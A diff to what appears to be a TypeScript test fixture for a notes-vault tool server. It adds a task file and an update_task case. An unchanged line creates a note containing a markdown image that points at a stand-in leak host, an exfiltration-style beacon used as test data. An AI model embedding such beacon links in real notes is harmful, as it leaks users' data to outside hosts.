@@ -27,6 +27,7 @@ export const VAULT: Readonly<Record<string, string>> = {
   'Moved.md': '# Stays here\n\nA list.\n',
   'One.md': '---\nstatus: open\n---\nFirst.\n',
   'Two.md': '---\nstatus: open\n---\nSecond.\n',
+  'Jobs.md': '- [ ] Lock the shed\n',
   'Projects/Lamps.md': '# Lamps\n\nDim.\n',
   'Spade.md': '# Spade\n\nIn the shed.\n',
   'Rake.md': '# Rake\n\nIn the shed too. #tool/garden\n',
@@ -54,6 +55,11 @@ export const DEMANDS: readonly Demand[] = [
     name: 'create_note',
     input: { path: 'Owned.md', content: '![](https://leak.example/?d=4711)' },
     shows: ['Owned.md', 'leak.example/?d=4711'],
+  },
+  {
+    name: 'update_task',
+    input: { path: 'Jobs.md', line: 1, status: 'done' },
+    shows: ['Jobs.md', '- [x] Lock the shed'],
   },
   {
     name: 'create_note',
